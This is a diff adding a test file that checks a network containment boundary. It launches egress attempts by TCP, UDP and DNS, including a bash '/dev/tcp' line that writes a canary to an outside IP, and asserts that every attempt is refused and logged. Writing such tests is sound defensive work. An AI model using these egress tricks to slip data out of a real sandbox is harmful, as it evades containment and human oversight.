@@ -1,0 +1,94 @@
+// Whatever way a tool takes, it comes to the door: caught with the destination it was aimed at and the program that tried,
+// on the record, and seen by nobody outside. Needs the boundary's tools, and namespaces to stand the outside world in.
+
+import assert from "node:assert/strict";
+import { kill } from "node:process";
+import { createInterface } from "node:readline";
+import { readFileSync } from "node:fs";
+import { test } from "node:test";
+import { openOutside } from "./outside.ts";
+import { writeQuestion } from "./question.ts";
+import { type Logged, Stage } from "./stage.ts";
+import { waysByTcp, waysByUdp } from "./ways.ts";
+
+const node = process.execPath;
+
+/** Sends the datagrams of argument 1 (`[[ip, port, hex], …]`), says so, and stays until its input ends. */
+const sender = `
+const dgram = require("dgram");
+const sockets = { 4: dgram.createSocket("udp4"), 6: dgram.createSocket("udp6") };
+let left = 0;
+for (const [ip, port, hex] of JSON.parse(process.argv[2])) {
+  left += 1;
+  sockets[ip.includes(":") ? 6 : 4].send(Buffer.from(hex, "hex"), port, ip, () => { if ((left -= 1) === 0) console.log("sent"); });
+}
+process.stdin.resume().on("end", () => process.exit());
+`;
+
+const executable = (entry: Logged): unknown => {
+  const { process } = entry.sealed;
+  return typeof process === "object" && process !== null && "executable" in process ? process.executable : process;
+};
+
+function aimedAt(log: readonly Logged[], ip: string, port: number): readonly Logged[] {
+  return log.filter(({ sealed }) => {
+    const to = (sealed["destination"] ?? sealed) as { ip?: string; port?: number };
+    return to.ip === ip && to.port === port;
+  });
+}
+
+test("real boundary: every way out is caught and entered, nothing comes out (needs namespaces)", async (t) => {
+  using stage = new Stage();
+  await using outside = await openOutside({ directory: stage.base });
+  const ways = waysByTcp(stage.work);
+  for (const way of ways) if (way.skip !== undefined) t.diagnostic(`NOT TRIED: ${way.name}: ${way.skip}`);
+  const tried = ways.filter((way) => way.skip === undefined);
+  const resolvers = [["8.8.8.8", "four"], ["2001:4860:4860::8888", "six"]] as const;
+  const datagrams = [
+    ...waysByUdp.map(({ ip, port }) => [ip, port, Buffer.from("canary").toString("hex")]),
+    ...resolvers.map(([ip, label]) => [ip, 53, writeQuestion(["canary", label, "example", "org"], 1).toString("hex")]),
+    ["9.9.9.9", 53, Buffer.from("no question at all").toString("hex")],
+  ];
+  const lines = [
+    ...tried.map((way) => way.line),
+    "getent hosts canary.looked.example.org",
+    "(exec 3<>/dev/tcp/9.9.9.10/53; echo canary >&3; exec 3>&-; true)",
+    `exec ${node} sender.cjs '${JSON.stringify(datagrams)}'`,
+  ];
+  stage.write("work/sender.cjs", sender);
+  stage.write("work/ways.sh", `${lines.map((line) => (line.startsWith("exec") ? line : `${line} >/dev/null 2>&1`)).join("\n")}\n`);
+
+  const { child, ended } = stage.start(["bash", "ways.sh"], { before: outside.enter, input: "pipe" });
+  child.stdout?.once("data", () => void untilEntered().then(() => child.stdin?.end()));
+  const entered = (log: readonly Logged[]): boolean => datagrams.every(([ip, port]) => aimedAt(log, String(ip), Number(port)).length > 0);
+  const untilEntered = async (): Promise<void> => {
+    while (child.exitCode === null && !entered(await stage.log())) continue;
+  };
+  const { code, summary, errors } = await ended;
+  assert.equal(code, 0, errors);
+
+  const log = await stage.log();
+  for (const way of tried) {
+    const found = aimedAt(log, way.ip, way.port).filter((entry) => entry.kind === "connection");
+    assert.deepEqual(found.map(executable), [way.by], `${way.name}: ${JSON.stringify(found)}`);
+    assert.equal(found[0]?.verdict, "refuse", way.name);
+    const requests = log.filter((entry) => entry.kind === "refusal" && entry.sealed["host"] === way.ip && "method" in entry.sealed);
+    assert.equal(requests.length, way.request ? 1 : 0, way.name);
+  }
+  for (const [ip, port] of datagrams) {
+    const found = aimedAt(log, String(ip), Number(port));
+    assert.deepEqual(found.map((entry) => [entry.verdict, executable(entry)]), [["refuse", node]], `${ip} ${port}`);
+  }
+  const names = log.filter((entry) => entry.kind === "name").map((entry) => [entry.sealed["name"] ?? entry.rule, executable(entry)]);
+  assert.deepEqual(new Map(names as [string, string][]), new Map([
+    ["canary.looked.example.org", "/usr/bin/getent"],
+    ["canary.four.example.org", node],
+    ["canary.six.example.org", node],
+    ["gateway:no-question", node],
+  ]));
+  assert.equal(aimedAt(log, "9.9.9.10", 53).length, 1);
+  assert.equal(summary?.network.overflow, 0);
+  assert.equal(summary?.network.bytesOut, 0);
+  assert.deepEqual(await outside.seen(), []);
+  t.diagnostic(`${tried.length} ways by TCP, ${datagrams.length} datagrams`);
+});
